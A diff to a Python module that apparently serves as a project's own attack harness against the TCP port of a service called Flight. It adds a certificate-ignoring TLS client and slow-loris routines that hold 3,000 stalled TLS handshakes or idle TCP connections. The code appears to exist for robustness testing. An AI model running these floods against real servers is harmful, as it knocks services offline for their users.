@@ -1,4 +1,5 @@
-"""Attacks on the TCP port of Flight, by those who do not have the token of the spool."""
+"""Attacks on the TCP port of Flight, by those who do not have the token of the spool. All that they
+send behind their handshake is on its way before they can know that it failed."""
 
 from __future__ import annotations
 
@@ -45,8 +46,9 @@ CALL = (
 )  # fmt: skip
 
 
-class Http2:
-    """A client that trusts anybody, and writes frames of its own."""
+class TlsClient:
+    """A client of TLS that trusts anybody and has no certificate; its bytes are counted as they are
+    on their way."""
 
     def __init__(self, target: Target) -> None:
         assert target.flight is not None
@@ -54,24 +56,68 @@ class Http2:
         context.check_hostname = False
         context.verify_mode = ssl.CERT_NONE
         context.set_alpn_protocols(["h2"])
-        plain = socket.create_connection(target.flight, timeout=30)
-        self._socket = context.wrap_socket(plain)
+        self._socket = socket.create_connection(target.flight, timeout=30)
         self._tally = target.tally
-        self._next = 1
+        self._read, self._written = ssl.MemoryBIO(), ssl.MemoryBIO()
+        self._tls = context.wrap_bio(self._read, self._written)
         self.broken = False
-        self.write(PREFACE + frame(SETTINGS, 0, 0, b""))
+
+    def begin(self) -> None:
+        """The first flight alone."""
+        with contextlib.suppress(ssl.SSLWantReadError):
+            self._tls.do_handshake()
+        self._send()
+
+    def shake(self) -> None:
+        """The whole handshake, as far as it is the client's."""
+        self.begin()
+        while not self.broken:
+            self._receive()
+            try:
+                self._tls.do_handshake()
+                return
+            except ssl.SSLWantReadError:
+                continue
+            except ssl.SSLError:
+                self.broken = True
 
     def write(self, data: bytes) -> None:
+        if self.broken:
+            return
+        self._tls.write(data)
+        self._send()
+        while not self.broken and select.select([self._socket], [], [], 0)[0]:
+            self._receive()
+
+    def close(self) -> None:
+        self._socket.close()
+
+    def _send(self) -> None:
+        data = self._written.read()
         self._tally.bytes += len(data)
         self._tally.datagrams += 1
         try:
             self._socket.sendall(data)
-            while select.select([self._socket], [], [], 0)[0]:
-                if not self._socket.recv(65_536):
-                    self.broken = True
-                    return
         except OSError:
             self.broken = True
+
+    def _receive(self) -> None:
+        try:
+            data = self._socket.recv(65_536)
+        except OSError:
+            data = b""
+        self._read.write(data)
+        self.broken = self.broken or not data
+
+
+class Http2(TlsClient):
+    """A client that writes frames of its own."""
+
+    def __init__(self, target: Target) -> None:
+        super().__init__(target)
+        self._next = 1
+        self.shake()
+        self.write(PREFACE + frame(SETTINGS, 0, 0, b""))
 
     def call(self, *fields: bytes, body: bytes = b"") -> None:
         """One request, with a message or without."""
@@ -84,10 +130,6 @@ class Http2:
         stream_id, self._next = self._next, self._next + 2
         self.write(frame(HEADERS, 0, stream_id, CALL))
         return stream_id
-
-    def close(self) -> None:
-        with contextlib.suppress(OSError):
-            self._socket.close()
 
 
 def calls(target: Target, *fields: bytes) -> Iterator[None]:
@@ -162,15 +204,26 @@ def flight_pings(target: Target) -> Iterator[None]:
 
 
 @attack(Stage.FLIGHT)
+def flight_handshakes_left(target: Target) -> Iterator[None]:
+    """Slow loris: handshakes of TLS that are answered and never go on."""
+    held = []
+    for _ in range(3_000):
+        client = TlsClient(target)
+        client.begin()
+        held.append(client)
+        yield
+
+
+@attack(Stage.FLIGHT)
 def flight_connections_left(target: Target) -> Iterator[None]:
     """Slow loris: TCP connections that never say a word, and some that begin TLS."""
     assert target.flight is not None
-    clients = []
-    for number in range(200):
+    held = []
+    for number in range(3_000):
         client = socket.create_connection(target.flight, timeout=30)
         target.tally.datagrams += 1
         if number % 2:
             client.sendall(b"\x16\x03\x01\x02\x00\x01")
             target.tally.bytes += 6
-        clients.append(client)
+        held.append(client)
         yield
